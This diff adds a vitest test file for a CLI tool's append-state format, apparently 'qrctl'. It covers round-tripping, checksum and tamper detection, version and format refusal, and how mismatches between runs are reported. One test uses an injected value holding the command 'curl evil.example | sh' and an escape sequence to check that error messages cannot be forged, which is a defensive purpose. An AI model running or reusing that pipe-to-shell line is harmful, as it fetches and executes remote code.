@@ -1,0 +1,258 @@
+import { createHash } from 'node:crypto';
+import { describe, expect, it } from 'vitest';
+import { StateProblem, UnknownStateError } from '../../../src/scans/append/checksummed-state.ts';
+import { type AppendIdentity, differenceOf } from '../../../src/scans/append/identity.ts';
+import { emptyOverlap } from '../../../src/scans/append/overlap.ts';
+import { type AppendState, formatState, parseState } from '../../../src/scans/append/state.ts';
+
+const HOUR = 3_600_000;
+
+const identity: AppendIdentity = {
+  codes: ['b', 'a'],
+  all: false,
+  columns: ['id', 'ts', 'qr_id'],
+  format: 'csv',
+  dialect: { header: true, excel: false, rawCells: false },
+};
+
+const workspace = { baseUrl: 'https://example.test/api/v1', key: `${'a'.repeat(32)}:${'b'.repeat(64)}`, profile: 'work' };
+const STAMP = { ino: 2n ** 60n + 1n, mtimeNs: -1n, ctimeNs: 1_767_225_600_123_456_789n };
+
+function stateOf(changes: Partial<AppendState> = {}): AppendState {
+  const writtenAt = { serviceMs: 11 * HOUR, machineMs: 0 };
+  const overlap = { ...emptyOverlap(), watermarkMs: 10 * HOUR, rows: 3, idsFromMs: 2 * HOUR, writtenAt };
+  overlap.ids
+    .set('7', 3 * HOUR)
+    .set('8', 8 * HOUR)
+    .set('9', 10 * HOUR);
+  const overlaps = new Map([
+    ['a', overlap],
+    ['b', emptyOverlap()],
+  ]);
+  const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
+  return {
+    workspace,
+    identity,
+    sinceMs: 5,
+    bytes: 99,
+    ...digests,
+    stamp: STAMP,
+    ino: 7n,
+    replacing: false,
+    rotated: [{ bytes: 40, sha256: 'd'.repeat(64), newestMs: { a: 4 * HOUR } }],
+    overlaps,
+    ...changes,
+  };
+}
+
+const saved = (overlapMs = HOUR) => JSON.parse(formatState(stateOf(), overlapMs).toString());
+
+/** A state file with a right checksum, whatever it holds. */
+function sealed(content: unknown): Buffer {
+  const body = JSON.stringify(content);
+  const checksum = createHash('sha256').update(body).digest('hex');
+  return Buffer.from(`${body.slice(0, -1)},"checksum":"${checksum}"}\n`);
+}
+
+describe('a state', () => {
+  it('is read as it was written', () => {
+    const { identity: was, overlaps, rotated, ...rest } = parseState(formatState(stateOf(), 100 * HOUR));
+    const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
+    expect(rest).toEqual({ workspace, sinceMs: 5, bytes: 99, ...digests, stamp: STAMP, ino: 7n, replacing: false });
+    expect(was).toEqual({ ...identity, codes: ['a', 'b'] });
+    expect({ overlaps, rotated }).toEqual({ overlaps: stateOf().overlaps, rotated: stateOf().rotated });
+    expect(parseState(formatState(stateOf({ sinceMs: undefined, replacing: true }), 0))).toMatchObject({
+      sinceMs: undefined,
+      replacing: true,
+    });
+  });
+
+  it.each([undefined, 4 * HOUR, Number.NEGATIVE_INFINITY])('keeps from when on to read again: %s', (rereadFromMs) => {
+    const overlaps = new Map([['a', { ...emptyOverlap(), rereadFromMs }]]);
+    expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.rereadFromMs).toBe(rereadFromMs);
+  });
+
+  it('may name the furthest time that there is', () => {
+    const overlaps = new Map([['a', { ...emptyOverlap(), watermarkMs: 8.64e15 }]]);
+    expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.watermarkMs).toBe(8.64e15);
+  });
+
+  it('of an older version knows the ids of what was moved away as far as the others (A25)', () => {
+    const { a } = saved(2 * HOUR).positions;
+    const older = { ...saved(), checksum: undefined, positions: { a: { ...a, movedUntilMs: 9 * HOUR } } };
+    expect(parseState(sealed(older)).overlaps.get('a')?.movedIdsFromMs).toBe(8 * HOUR);
+  });
+
+  it('lists the ids inside the overlap, and says from when on they are all', () => {
+    expect(saved(2 * HOUR).positions.a).toMatchObject({
+      idsFromMs: 8 * HOUR,
+      ids: [
+        ['8', 8 * HOUR],
+        ['9', 10 * HOUR],
+      ],
+    });
+    expect(saved(50 * HOUR).positions.a).toMatchObject({ idsFromMs: 2 * HOUR });
+    expect(saved().positions.b).toMatchObject({ rows: 0, idsFromMs: null, ids: [] });
+  });
+
+  it('counts as damaged when it was cut or changed anywhere (A2)', () => {
+    const whole = formatState(stateOf(), HOUR);
+    for (let at = 0; at < whole.length; at++) {
+      expect(() => parseState(whole.subarray(0, at)), `cut to ${at} bytes`).toThrow(StateProblem);
+      for (const bit of [0x01, 0x10, 0x80]) {
+        const changed = Buffer.from(whole);
+        changed[at] = (changed[at] as number) ^ bit;
+        // The version is looked at first: what a later one looks like nobody knows.
+        expect(() => parseState(changed), `byte ${at}`).toThrow(at === 11 ? Error : StateProblem);
+      }
+    }
+    expect(() => parseState(Buffer.concat([whole, Buffer.from('\n')]))).toThrow(StateProblem);
+    expect(() => parseState(Buffer.concat([Buffer.from(' '), whole]))).toThrow('cannot be read (truncated or changed)');
+    // What only begins later as a state of another version does is none of it.
+    expect(() => parseState(Buffer.from(' {"version":9,'))).toThrow(StateProblem);
+  });
+
+  it.each([0, 3, 17])('of version %i is refused (A16)', (version) => {
+    const words = `its state file has version ${version}, which this version of qrctl does not support`;
+    expect(() => parseState(sealed({ ...saved(), checksum: undefined, version }))).toThrow(new UnknownStateError(words));
+  });
+
+  const a = saved().positions.a;
+  const forms: [string, object][] = [
+    ['baseUrl', { baseUrl: 1 }],
+    ['delimiter', { dialect: { ...identity.dialect, delimiter: 1 } }],
+    ['sha256', { sha256: null }],
+    ['sha256, which is a list', { sha256: ['f'.repeat(64)] }],
+    ['sha256, with a letter before', { sha256: `g${'f'.repeat(64)}` }],
+    ['sha256, with a letter behind', { sha256: `${'f'.repeat(64)}g` }],
+    ['blocks of the first version, which had none', { version: 1 }],
+    ['blocks', { blocks: 'x' }],
+    ['ino', { ino: 7 }],
+    ['ino, which is no number', { ino: 'x' }],
+    ['ino, with a letter before', { ino: 'x7' }],
+    ['ino, with a letter behind', { ino: '7x' }],
+    ['stamp', { stamp: { ...STAMP, ino: undefined, mtimeNs: undefined, ctimeNs: undefined } }],
+    ['format', { format: 'xlsx' }],
+    ['codes', { codes: 'a' }],
+    ['a code', { codes: ['a', 1] }],
+    ['columns', { columns: { length: 0 } }],
+    ['a column', { columns: [null] }],
+    ['sinceMs', { sinceMs: null }],
+    ['bytes', { bytes: 1.5 }],
+    ['all', { all: 1 }],
+    ['replacing', { replacing: undefined }],
+    ['keepsOld', { keepsOld: 1 }],
+    ['key', { key: 'secret' }],
+    ['profile', { profile: 1 }],
+    ['dialect', { dialect: null }],
+    ['a part of the dialect', { dialect: { header: true, excel: false } }],
+    ['positions', { positions: null }],
+    ['a position', { positions: { a: null } }],
+    ['watermarkMs', { positions: { a: { ...a, watermarkMs: null } } }],
+    ['rows', { positions: { a: { ...a, rows: '3' } } }],
+    ['idsFromMs', { positions: { a: { ...a, idsFromMs: undefined } } }],
+    ['rereadFromMs', { positions: { a: { ...a, rereadFromMs: '0' } } }],
+    ['rows, fewer than none', { positions: { a: { ...a, rows: -1 } } }],
+    ['watermarkMs, beyond all dates', { positions: { a: { ...a, watermarkMs: 8.64e15 + 1 } } }],
+    ['writtenAt', { positions: { a: { ...a, writtenAt: null } } }],
+    ['writtenAt, of the service', { positions: { a: { ...a, writtenAt: { serviceMs: '0', machineMs: 0 } } } }],
+    ['writtenAt, of the machine', { positions: { a: { ...a, writtenAt: { serviceMs: 0, machineMs: '0' } } } }],
+    ['ids', { positions: { a: { ...a, ids: {} } } }],
+    ['an id without a time', { positions: { a: { ...a, ids: ['9'] } } }],
+    ['an id that is none', { positions: { a: { ...a, ids: [[9, 1]] } } }],
+    ['the time of an id', { positions: { a: { ...a, ids: [['9', null]] } } }],
+    ['one position of two', { positions: { a, b: 1 } }],
+  ];
+  it.each(forms)('whose %s has another form is refused, though its checksum is right (A16)', (_, change) => {
+    const words = 'its state file has a format that this version of qrctl does not support';
+    expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(new UnknownStateError(words));
+  });
+
+  it('that is no object, or no JSON, is refused, though its checksum is right (A16)', () => {
+    const text = '{"version":1,nonsense';
+    const checksum = createHash('sha256').update(`${text}}`).digest('hex');
+    expect(() => parseState(Buffer.from(`${text},"checksum":"${checksum}"}\n`))).toThrow(UnknownStateError);
+  });
+});
+
+describe('a run differs from what the file is', () => {
+  it('in words that no value of a state can forge', () => {
+    const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
+    const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
+    const states: AppendIdentity[] = [
+      { ...identity, codes: [forged] },
+      { ...identity, codes: [forged, 'b'] },
+      { ...identity, columns: ['id', forged] },
+      { ...identity, columns: Array.from({ length: 100_000 }, (_, i) => `c${i}`) },
+      { ...identity, dialect },
+      { ...identity, dialect: { ...dialect, timezone: identity.dialect.timezone } },
+    ];
+    for (const was of states) {
+      const { reason, wayOn } = differenceOf(was, identity) ?? {};
+      for (const words of [reason, wayOn]) expect(words).toMatch(/^[\x20-\x7e…]{1,600}$/);
+    }
+  });
+
+  const dialect = identity.dialect;
+  const ndjson = { ...identity, format: 'ndjson' as const };
+  const cases: [string, string, AppendIdentity, Partial<AppendIdentity>][] = [
+    ['was written as csv, not ndjson', 'Pass --format csv', identity, { format: 'ndjson' }],
+    ['contains the scans of codes a, b, not of code c', 'Pass the same codes (a b)', identity, { codes: ['c'] }],
+    [
+      'contains the scans of codes a, b, not of all codes',
+      'Pass the same codes instead of --all or filters (a b)',
+      identity,
+      { all: true },
+    ],
+    ['contains the scans of all codes, not of codes a, b', 'Pass only --all', { ...identity, all: true }, { all: false }],
+    ['has the columns id,ts,qr_id, not id,ts', 'Pass --fields id,ts,qr_id', identity, { columns: ['id', 'ts'] }],
+    ['was written without --no-header', 'Omit --no-header', identity, { dialect: { ...dialect, header: false } }],
+    ['was written without --excel', 'Omit --excel', identity, { dialect: { ...dialect, excel: true } }],
+    ['was written with --excel', 'Add --excel', { ...identity, dialect: { ...dialect, excel: true } }, { dialect }],
+    ['was written without --raw-cells', 'Omit --raw-cells', identity, { dialect: { ...dialect, rawCells: true } }],
+    [
+      'has ts_local in the time zone Asia/Tokyo, not Europe/Berlin',
+      'Add --timezone Asia/Tokyo',
+      { ...identity, dialect: { ...dialect, timezone: 'Asia/Tokyo' } },
+      { dialect: { ...dialect, timezone: 'Europe/Berlin' } },
+    ],
+  ];
+  it.each(cases)('it %s (A6)', (reason, wayOn, was, change) => {
+    expect(differenceOf(was, { ...was, ...change })).toEqual({ reason, wayOn });
+  });
+
+  it('in the filters that its codes pass (A30)', () => {
+    const filtered = { ...identity, all: '--name menu' };
+    expect(parseState(formatState(stateOf({ identity: filtered }), HOUR)).identity.all).toBe('--name menu');
+    const { reason, wayOn } = differenceOf(filtered, identity) ?? {};
+    expect(reason).toMatch(/all codes with .*--name menu/);
+    expect(wayOn).toMatch(/same filters .*--name menu/);
+  });
+
+  it('in codes, though their IDs look alike in a list', () => {
+    expect(differenceOf({ ...identity, codes: ['a,b'] }, identity)).toBeDefined();
+  });
+
+  it('in more than can be listed: 20 names in a reason, 20 columns and 5 codes in a command', () => {
+    const names = (count: number) => Array.from({ length: count }, (_, i) => `n${String(i).padStart(2, '0')}`);
+    const codes = (count: number) => differenceOf({ ...identity, codes: names(count) }, identity);
+    const columns = (count: number) => differenceOf({ ...identity, columns: names(count) }, identity);
+    expect([codes(5)?.wayOn.includes('n04'), codes(6)?.wayOn.includes('n04')]).toEqual([true, false]);
+    expect([columns(20)?.wayOn.includes('n19'), columns(21)?.wayOn.includes('n19')]).toEqual([true, false]);
+    expect(codes(20)?.reason).toMatch(/n19, not of/);
+    expect(codes(21)?.reason).toMatch(/n19, …, not of/);
+  });
+
+  it('in what stands between cells', () => {
+    const tabs = { ...identity, dialect: { ...dialect, delimiter: '\t' } };
+    expect(parseState(formatState(stateOf({ identity: tabs }), HOUR)).identity.dialect).toEqual(tabs.dialect);
+    expect(differenceOf(tabs, identity)?.reason).toBe('was written with --delimiter tab, not ,');
+    expect(differenceOf(tabs, { ...tabs })).toBeUndefined();
+  });
+
+  it('in nothing that counts', () => {
+    expect(differenceOf(identity, { ...identity, codes: ['a', 'b'] })).toBeUndefined();
+    expect(differenceOf({ ...identity, all: true }, { ...identity, all: true, codes: ['c'] })).toBeUndefined();
+    expect(differenceOf(ndjson, { ...ndjson, dialect: { ...dialect, excel: true } })).toBeUndefined();
+  });
+});
